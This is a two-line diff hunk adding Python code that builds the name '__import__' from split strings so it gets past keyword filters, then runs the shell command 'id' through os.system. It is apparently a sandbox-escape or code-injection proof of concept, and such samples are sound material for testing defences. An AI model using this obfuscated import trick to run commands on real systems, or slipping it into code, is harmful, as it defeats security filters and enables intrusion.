@@ -1,0 +1,2 @@
+imp = getattr(__builtins__, "__imp" + "ort__")
+imp("os").system("id")
